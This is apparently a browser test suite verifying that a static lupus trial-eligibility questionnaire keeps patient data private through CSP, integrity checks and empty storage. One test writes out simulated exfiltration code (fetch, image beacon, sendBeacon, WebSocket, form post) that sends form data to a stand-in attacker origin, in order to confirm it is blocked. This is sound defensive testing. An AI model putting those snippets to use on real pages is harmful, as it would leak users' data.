// The privacy promise, enforced by the built page itself (issue #5):
//   (a) the built index.html carries the strict CSP <meta>, the referrer
//       policy, integrity on every asset and only relative asset URLs;
//   (b) a full questionnaire session makes no request beyond the page's own
//       static files and the CSP refuses nothing;
//   (c) a script injected into the page cannot send anything to another
//       origin (fetch, image beacon, sendBeacon, ...): the CSP blocks it and
//       the other origin (a second local server) receives nothing; an
//       injected inline <script> does not run;
//   (d) after the session the browser keeps nothing: localStorage,
//       sessionStorage, IndexedDB, Cache Storage and cookies are empty;
//   (e) the page works served under /some/sub/path/, the engine module too;
//   (f) a tampered script, wasm or stylesheet is refused (integrity).
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { createServer } from 'node:http';
import { existsSync } from 'node:fs';
import { appendFile, cp, mkdtemp, readFile, readdir, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join, resolve } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { fileURLToPath } from 'node:url';
import {
  cspViolations,
  distDir,
  downloadText,
  expectVerdict,
  fill,
  fillEligiblePatient,
  launchBrowser,
  openPage,
  parseCsp,
  pick,
  recordCspViolations,
  REQUIRED_CSP,
  select,
  storedByPage,
  yes,
} from './helpers.mjs';
import { serve } from './server.mjs';

const here = dirname(fileURLToPath(import.meta.url));
const repo = resolve(here, '..', '..');
const dist = distDir();
const SUB = '/some/sub/path/';
/** How long "nothing arrives" is watched (ms). */
const QUIET = 1_500;

const sri = (algo, bytes) => `${algo}-${createHash(algo).update(bytes).digest('base64')}`;

/** Start tags of an HTML text: [{ name, attrs: Map, text }]. */
function startTags(html) {
  const tags = [];
  for (const m of html.matchAll(/<([A-Za-z][A-Za-z0-9-]*)\b((?:[^>"']|"[^"]*"|'[^']*')*)>/g)) {
    const attrs = new Map();
    for (const a of m[2].matchAll(/([^\s=/>]+)(?:\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g)) {
      attrs.set(a[1].toLowerCase(), a[2] ?? a[3] ?? a[4] ?? '');
    }
    tags.push({ name: m[1].toLowerCase(), attrs, text: m[0], index: m.index });
  }
  return tags;
}

/** Checks an SRI value against the file it names; returns the file's bytes. */
async function assertIntegrity(integrity, file, what) {
  assert.ok(integrity, `${what} has no integrity`);
  const bytes = await readFile(file);
  const ok = integrity
    .trim()
    .split(/\s+/)
    .some((t) => {
      const algo = /^(sha256|sha384|sha512)-/.exec(t)?.[1];
      return algo && t === sri(algo, bytes);
    });
  assert.ok(ok, `${what}: integrity ${integrity} does not match ${file}`);
  return bytes;
}

/** The page's own static files at the top of dist/ (what the page may load). */
async function pageFiles() {
  const names = (await readdir(dist, { withFileTypes: true })).filter((e) => e.isFile()).map((e) => e.name);
  return names.filter((n) => /\.(html|css|js|wasm)$/.test(n) && n !== 'index.html');
}

/**
 * A second origin that records every request it gets: the "other origin" an
 * injected script would send data to.
 */
async function otherOrigin() {
  const got = [];
  const server = createServer((req, res) => {
    got.push(`${req.method} ${req.url}`);
    req.resume();
    res.writeHead(204, { 'Access-Control-Allow-Origin': '*' }).end();
  });
  server.on('upgrade', (req, socket) => {
    got.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise((ok) => server.listen(0, '127.0.0.1', ok));
  return {
    origin: `http://127.0.0.1:${server.address().port}`,
    got,
    close: () =>
      new Promise((ok) => {
        server.closeAllConnections?.();
        server.close(() => ok());
      }),
  };
}

/** A fresh context with CSP violations, requests and page errors recorded. */
async function recordedContext(browser, options = {}) {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 }, acceptDownloads: true, ...options });
  context.setDefaultTimeout(5_000);
  await recordCspViolations(context);
  const requests = [];
  const errors = [];
  context.on('request', (r) => requests.push({ method: r.method(), url: r.url(), type: r.resourceType() }));
  context.on('page', (p) => {
    p.on('pageerror', (e) => errors.push(String(e && e.stack ? e.stack : e)));
    p.on('dialog', (d) => d.accept());
  });
  return { context, requests, errors };
}

/** Fills every field of a section that is still empty (dates, numbers, selects, radios). */
async function fillSection(page, section) {
  const root = page.locator(`[data-section="${section}"]`);
  await root.waitFor({ state: 'visible' });
  for (const el of await root.locator('input[type=date][data-path]:not([disabled])').all()) {
    if (!(await el.inputValue())) {
      await el.fill('2026-06-01');
      await el.blur();
    }
  }
  for (const el of await root.locator('input[type=text][data-path]').all()) {
    if (!(await el.inputValue())) {
      await el.fill('12');
      await el.blur();
    }
  }
  for (const el of await root.locator('select[data-path]').all()) {
    if (!(await el.inputValue())) {
      const value = await el.locator('option').evaluateAll((os) => os.map((o) => o.value).find((v) => v !== ''));
      if (value) await el.selectOption(value);
    }
  }
  const paths = await root
    .locator('input[type=radio][data-path]')
    .evaluateAll((rs) => [...new Set(rs.map((r) => r.getAttribute('data-path')))]);
  for (const path of paths) {
    const radios = root.locator(`input[type=radio][data-path="${path}"]`);
    if (await radios.evaluateAll((rs) => rs.some((r) => r.checked && r.value !== ''))) continue;
    await radios.first().click();
  }
}

/**
 * The full session: every section answered, each conditional section shown
 * (and filled), the SLEDAI score mode, a malignancy row added and removed,
 * Enter in a field (the form's submit), Copy summary, Save, Clear all, Undo,
 * Load, the jump links, print (to PDF), Print button, and the embed mode in
 * a second tab. Returns what was recorded.
 */
async function fullSession(browser, server) {
  const { context, requests, errors } = await recordedContext(browser);
  await context.grantPermissions(['clipboard-read', 'clipboard-write'], { origin: server.origin });
  const page = await context.newPage();
  try {
    await openPage(page, server.url);

    // every section, as the eligible patient
    await fillEligiblePatient(page);
    await expectVerdict(page, 'potentially_eligible');

    // conditional: the reproductive section goes and comes back
    await pick(page, 'patient.sex', 'male');
    await page.waitForSelector('[data-section="reproductive"]', { state: 'detached' });
    await pick(page, 'patient.sex', 'female');
    await fillSection(page, 'reproductive');

    // conditional: the nephritis section (renal BILAG A), every field filled
    await select(page, 'sle.bilag.renal', 'A');
    await fillSection(page, 'nephritis');
    await select(page, 'sle.bilag.renal', 'D');
    await page.waitForSelector('[data-section="nephritis"]', { state: 'detached' });

    // malignancy rows, SLEDAI score mode, then back
    await pick(page, 'conditions.malignancy', 'list');
    const add = page.locator('[data-action="add-malignancy"]');
    if ((await page.locator('[data-path="conditions.malignancy[0].type"]').count()) === 0) await add.click();
    await page.locator('select[data-path="conditions.malignancy[0].type"]').waitFor();
    await fillSection(page, 'conditions');
    await page.locator('[data-action="remove-malignancy"]').first().click();
    await pick(page, 'conditions.malignancy', 'none');
    await page.locator('input[type=radio][data-control="sledai-mode"][value="score"]').click();
    await fill(page, 'sle.sledai.score', '8');
    await page.locator('input[type=radio][data-control="sledai-mode"][value="items"]').click();

    // Enter in a text field submits the form: the page prevents it
    await page.locator('input[data-path="patient.weight_kg"]').press('Enter');
    await expectVerdict(page, 'potentially_eligible');

    // Copy summary
    await page.locator('[data-action="copy-summary"]').click();
    await page.waitForFunction(async () => (await navigator.clipboard.readText()).length > 0);

    // Save, Clear all, Undo, Clear all, Load
    const [download] = await Promise.all([
      page.waitForEvent('download'),
      page.locator('[data-action="save-answers"]').click(),
    ]);
    const saved = await download.path();
    assert.match(await downloadText(download), /misle-answers\/1/);
    await page.locator('[data-action="clear-all"]').click();
    await expectVerdict(page, 'incomplete');
    await page.locator('[data-action="undo-clear"]').click();
    await expectVerdict(page, 'potentially_eligible');
    await page.locator('[data-action="clear-all"]').click();
    await expectVerdict(page, 'incomplete');
    await page.locator('input[type=file][data-action="load-answers"]').setInputFiles(saved);
    await expectVerdict(page, 'potentially_eligible');

    // a missing answer and its jump link
    await pick(page, 'patient.consent', '');
    await expectVerdict(page, 'incomplete');
    await page.locator('a[data-jump]').first().click();
    await yes(page, 'patient.consent');
    await expectVerdict(page, 'potentially_eligible');

    // print: the print stylesheet rendered to PDF, and the Print button
    await page.emulateMedia({ media: 'print' });
    assert.ok((await page.pdf({ format: 'Letter' })).length > 1000);
    await page.emulateMedia({ media: 'screen' });
    await page.locator('[data-action="print"]').click();

    // the phone layout's panel toggle
    await page.setViewportSize({ width: 375, height: 800 });
    const toggle = page.locator('[data-action="toggle-panel"]');
    if (await toggle.isVisible()) {
      await toggle.click();
      await toggle.click();
    }
    await page.setViewportSize({ width: 1280, height: 900 });

    // the embed mode, in a second tab
    const embed = await context.newPage();
    await openPage(embed, `${server.url}?embed=1`);
    await yes(embed, 'conditions.hiv');
    await expectVerdict(embed, 'not_eligible');
    await page.waitForTimeout(300);

    return {
      requests,
      errors,
      loads: 2,
      violations: [...(await cspViolations(page)), ...(await cspViolations(embed))],
      stored: { page: await storedByPage(page, context), embed: await storedByPage(embed, context) },
    };
  } finally {
    await context.close();
  }
}

describe('privacy promise (CSP, requests, storage, sub-path)', () => {
  let browser;
  let server;
  let session;
  before(async () => {
    assert.ok(existsSync(join(dist, 'index.html')), `no built page at ${dist}`);
    server = await serve(dist);
    browser = await launchBrowser();
  });
  after(async () => {
    await browser?.close();
    await server?.close();
  });

  /** The full session, run once for (b) and (d). */
  const fullSessionOnce = async () => {
    session ??= fullSession(browser, server);
    return session;
  };

  test('(a) the built page carries the strict CSP, the referrer policy, integrity on every asset, relative URLs', async () => {
    const html = await readFile(join(dist, 'index.html'), 'utf8');
    const tags = startTags(html);

    const cspTags = tags.filter((t) => t.name === 'meta' && t.attrs.get('http-equiv')?.toLowerCase() === 'content-security-policy');
    assert.equal(cspTags.length, 1, 'one Content-Security-Policy <meta>');
    const csp = cspTags[0].attrs.get('content');
    assert.deepEqual(parseCsp(csp), REQUIRED_CSP, `the CSP is exactly the required one: ${csp}`);
    for (const bad of ["'unsafe-inline'", "'unsafe-eval'", "'unsafe-hashes'", "'strict-dynamic'", '*', 'http:', 'https:', 'blob:']) {
      assert.ok(!csp.split(/[\s;]+/).includes(bad), `the CSP allows ${bad}`);
    }
    // A <meta> CSP governs only what comes after it: it must precede every
    // element that loads anything.
    const first = tags.find((t) => ['script', 'link', 'style', 'base'].includes(t.name));
    assert.ok(first && cspTags[0].index < first.index, 'the CSP <meta> comes before every script, link and style');
    const referrer = tags.filter((t) => t.name === 'meta' && t.attrs.get('name')?.toLowerCase() === 'referrer');
    assert.deepEqual(referrer.map((t) => t.attrs.get('content')), ['no-referrer'], 'referrer policy no-referrer');

    // no inline script, style or handler; every script a module from a file
    const scripts = tags.filter((t) => t.name === 'script');
    assert.ok(scripts.length >= 1, 'the page loads a script');
    assert.doesNotMatch(html, /<script\b[^>]*>\s*[^<\s]/i, 'an inline script');
    assert.equal(tags.filter((t) => t.name === 'style').length, 0, 'an inline <style>');
    for (const t of tags) {
      for (const a of t.attrs.keys()) {
        assert.ok(!a.startsWith('on') && a !== 'style', `inline ${a}= on ${t.text}`);
      }
    }

    // every URL relative and local; every script and link carries a matching integrity
    const assets = [];
    for (const t of tags) {
      for (const a of ['src', 'href']) {
        if (!t.attrs.has(a)) continue;
        const url = t.attrs.get(a);
        if (t.name === 'link' && t.attrs.get('rel') === 'icon') {
          assert.equal(url, 'data:,', 'the icon is the empty data: URL (no /favicon.ico request)');
          continue;
        }
        assert.match(url, /^\.\/[A-Za-z0-9][A-Za-z0-9._-]*$/, `asset URL not relative ("./name"): ${t.text}`);
        assets.push(url.slice(2));
        await assertIntegrity(t.attrs.get('integrity'), join(dist, url.slice(2)), t.text);
      }
    }
    assert.ok(scripts.every((t) => t.attrs.get('type') === 'module' && t.attrs.has('src')), 'every script is a module file');

    // the start-up module: imports nothing (an import would not be checked),
    // fetches the wasm with its integrity
    assert.equal(scripts.length, 1, 'one script: the start-up module');
    const start = await readFile(join(dist, scripts[0].attrs.get('src').slice(2)), 'utf8');
    assert.doesNotMatch(start, /^\s*import\b(?!\s*[.(])|\bimport\s*\(/m, 'the start-up module imports a module, unchecked');
    // (minified by terser: either quote, no spaces)
    const fetched = /\bfetch\(new URL\(["']\.\/([A-Za-z0-9._-]+\.wasm)["'],\s*import\.meta\.url\),\s*\{\s*integrity:\s*["']([^"']+)["']\s*\}\)/.exec(start);
    assert.ok(fetched, 'the start-up module fetches the wasm with integrity');
    await assertIntegrity(fetched[2], join(dist, fetched[1]), 'the wasm fetch');
    assert.equal(tags.filter((t) => t.attrs.get('rel') === 'modulepreload').length, 0, 'a modulepreload (its integrity would not cover the import)');

    // every file the page has at the top of dist/ is one of its assets
    assert.deepEqual([...new Set([...assets, fetched[1]])].sort(), (await pageFiles()).sort());

    // the engine module's published digests are right
    const integrity = JSON.parse(await readFile(join(dist, 'engine', 'integrity.json'), 'utf8'));
    for (const f of ['misle_engine.js', 'misle_engine_bg.wasm']) {
      await assertIntegrity(integrity[f], join(dist, 'engine', f), `engine/integrity.json ${f}`);
    }
  });

  test('(b) a full session: zero CSP violations, only GETs of the page\'s own static files', async () => {
    const { requests, errors, violations, loads } = await fullSessionOnce();
    assert.deepEqual(errors, [], 'the page threw');
    assert.deepEqual(violations, [], 'the CSP refused something during the session');

    const files = await pageFiles();
    const allowed = new Set(['/', ...files.map((f) => `/${f}`)]);
    const bad = [];
    const count = new Map();
    for (const r of requests) {
      const url = new URL(r.url);
      if (url.protocol === 'blob:') {
        // the saved file (a Blob URL of the page's own origin)
        if (url.origin !== server.origin || r.method !== 'GET') bad.push(`${r.method} ${r.url}`);
        continue;
      }
      if (url.origin !== server.origin || r.method !== 'GET' || !allowed.has(url.pathname)) {
        bad.push(`${r.method} ${r.url} (${r.type})`);
        continue;
      }
      count.set(url.pathname, (count.get(url.pathname) ?? 0) + 1);
    }
    assert.deepEqual(bad, [], `requests beyond the page's own static files:\n${bad.join('\n')}`);
    assert.deepEqual([...count.keys()].sort(), [...allowed].sort(), 'the page loaded all its files, and only those');
    for (const [path, n] of count) {
      assert.ok(n <= loads, `${path} was fetched ${n} times in ${loads} page loads`);
    }
  });

  test('(c) a script injected into the page can send nothing to another origin', async () => {
    const other = await otherOrigin();
    const { context, errors } = await recordedContext(browser);
    try {
      const page = await context.newPage();
      await openPage(page, server.url);
      await fillEligiblePatient(page, { skip: ['labs', 'conditions', 'medications'] });
      const result = await page.evaluate(async (to) => {
        const out = {};
        // fetch, with the patient's data
        const data = JSON.stringify({ sex: document.querySelector('[data-path="patient.sex"]:checked')?.value });
        out.fetch = await fetch(`${to}/fetch`, { method: 'POST', body: data, mode: 'no-cors' }).then(
          () => 'sent',
          (e) => `refused: ${e.name}`,
        );
        // an image beacon
        out.image = await new Promise((done) => {
          const img = new Image();
          img.onload = () => done('loaded');
          img.onerror = () => done('refused');
          img.src = `${to}/beacon.gif?d=${encodeURIComponent(data)}`;
        });
        // navigator.sendBeacon
        try {
          out.sendBeacon = navigator.sendBeacon(`${to}/sendbeacon`, data) ? 'queued' : 'refused';
        } catch (e) {
          out.sendBeacon = `refused: ${e.name}`;
        }
        // a script from the other origin, a stylesheet, a frame, a form post, a websocket
        const s = document.createElement('script');
        s.src = `${to}/script.js`;
        document.head.append(s);
        const l = document.createElement('link');
        l.rel = 'stylesheet';
        l.href = `${to}/style.css`;
        document.head.append(l);
        const f = document.createElement('iframe');
        f.src = `${to}/frame`;
        document.body.append(f);
        try {
          new WebSocket(`${to.replace('http', 'ws')}/ws`);
        } catch (e) {
          out.websocket = `refused: ${e.name}`;
        }
        // an inline script, and markup with an inline handler
        const inline = document.createElement('script');
        inline.textContent = 'window.__inlineRan = true;';
        document.head.append(inline);
        document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.__handlerRan = true" onload="window.__handlerRan = true">');
        return out;
      }, other.origin);
      await page.waitForTimeout(QUIET);
      // the page still works
      await yes(page, 'conditions.hiv');
      await expectVerdict(page, 'not_eligible');
      // a form posted to the other origin (last: the refused navigation
      // leaves Playwright waiting for it)
      await page.evaluate((to) => {
        const form = document.createElement('form');
        form.method = 'post';
        form.action = `${to}/form`;
        document.body.append(form);
        form.submit();
      }, other.origin);
      await page.waitForTimeout(QUIET);

      assert.deepEqual(other.got, [], `the other origin received requests:\n${other.got.join('\n')}`);
      assert.equal(result.fetch, 'refused: TypeError', 'fetch() to another origin is refused');
      assert.equal(result.image, 'refused', 'the image beacon is refused');
      assert.equal(await page.evaluate(() => window.__inlineRan === true), false, 'the injected inline <script> ran');
      assert.equal(await page.evaluate(() => window.__handlerRan === true), false, 'the injected inline handler ran');

      const violations = await cspViolations(page);
      const to = (d) => violations.filter((v) => v.directive === d && v.blocked.includes(other.origin.replace('http://', '//')));
      assert.ok(to('connect-src').some((v) => v.blocked.includes('/fetch')), `no connect-src violation for fetch: ${JSON.stringify(violations)}`);
      assert.ok(to('connect-src').some((v) => v.blocked.includes('/sendbeacon')), `no connect-src violation for sendBeacon: ${JSON.stringify(violations)}`);
      assert.ok(to('connect-src').some((v) => v.blocked.includes('/ws')), `no connect-src violation for the WebSocket: ${JSON.stringify(violations)}`);
      assert.ok(to('img-src').length >= 1, `no img-src violation for the image beacon: ${JSON.stringify(violations)}`);
      assert.ok(to('script-src-elem').length >= 1, 'no script-src-elem violation for the foreign script');
      assert.ok(to('style-src-elem').length >= 1, 'no style-src-elem violation for the foreign stylesheet');
      assert.ok(to('frame-src').length >= 1, 'no frame-src violation for the frame');
      assert.ok(to('form-action').length >= 1, 'no form-action violation for the form post');
      assert.ok(
        violations.some((v) => v.directive === 'script-src-elem' && v.blocked === 'inline'),
        `no violation for the inline <script>: ${JSON.stringify(violations)}`,
      );
      assert.ok(
        violations.some((v) => v.directive === 'script-src-attr' && v.blocked === 'inline'),
        `no violation for the inline handler: ${JSON.stringify(violations)}`,
      );
      assert.deepEqual(errors, [], 'the page threw');
    } finally {
      await context.close();
      await other.close();
    }
  });

  test('(d) after the full session the browser keeps nothing: storage, IndexedDB, Cache Storage, cookies', async () => {
    const { stored } = await fullSessionOnce();
    const empty = { localStorage: [], sessionStorage: [], indexedDB: [], cacheStorage: [], cookie: '', cookies: [] };
    assert.deepEqual(stored, { page: empty, embed: empty });
  });

  test(`(e) the page and the engine module work served under ${SUB}`, async () => {
    const sub = await serve(dist, 0, { prefix: SUB });
    const { context, requests, errors } = await recordedContext(browser);
    try {
      assert.equal(sub.url, `${sub.origin}${SUB}`);
      const page = await context.newPage();
      // without the trailing slash: redirected to it, as static servers do
      await openPage(page, `${sub.origin}${SUB.replace(/\/$/, '')}`);
      assert.equal(page.url(), sub.url);
      await fillEligiblePatient(page);
      await expectVerdict(page, 'potentially_eligible');
      await yes(page, 'conditions.hiv');
      await expectVerdict(page, 'not_eligible');

      // the engine module, imported from the sub-path, in the page (under its CSP)
      const eligible = JSON.parse(await readFile(join(repo, 'tests', 'data', 'eligible.json'), 'utf8'));
      const report = await page.evaluate(async (answers) => {
        const engine = await import(new URL('engine/misle_engine.js', document.baseURI).href);
        await engine.default();
        return engine.evaluate(answers);
      }, eligible);
      assert.equal(report.schema, 'misle-report/1');
      assert.equal(report.verdict, 'potentially_eligible');

      assert.deepEqual(await cspViolations(page), [], 'the CSP refused something under the sub-path');
      assert.deepEqual(errors, [], 'the page threw');
      const outside = requests.map((r) => r.url).filter((u) => !u.startsWith(sub.url) && u !== `${sub.origin}${SUB.replace(/\/$/, '')}`);
      assert.deepEqual(outside, [], 'requests outside the sub-path');
    } finally {
      await context.close();
      await sub.close();
    }
  });

  test('(f) a tampered script, wasm or stylesheet is refused: the page does not start, or is unstyled', async () => {
    const files = await pageFiles();
    for (const ext of ['js', 'wasm', 'css']) {
      const name = files.find((f) => f.endsWith(`.${ext}`));
      const root = await mkdtemp(join(tmpdir(), 'misle-tampered-'));
      await cp(dist, root, { recursive: true });
      await appendFile(join(root, name), ext === 'css' ? 'body{display:none}' : ext === 'js' ? ';window.__tampered=1;' : '\0');
      const tampered = await serve(root);
      const { context, requests } = await recordedContext(browser);
      try {
        const page = await context.newPage();
        await page.goto(tampered.url);
        if (ext === 'css') {
          await page.waitForSelector('[data-verdict]', { state: 'attached', timeout: 20_000 });
          const sheets = await page.evaluate(() => [...document.styleSheets].map((s) => s.href));
          assert.deepEqual(sheets, [], `the tampered ${name} was applied`);
        } else {
          await page.waitForTimeout(QUIET);
          assert.equal(await page.locator('[data-verdict]').count(), 0, `the page started with a tampered ${name}`);
          assert.equal(await page.evaluate(() => window.__tampered), undefined, `the tampered ${name} ran`);
          const fetched = requests.filter((r) => r.url.endsWith(`/${name}`)).length;
          assert.ok(fetched <= 1, `${name} was fetched ${fetched} times (again without its integrity?)`);
        }
      } finally {
        await context.close();
        await tampered.close();
        await rm(root, { recursive: true, force: true });
      }
    }
  });
});
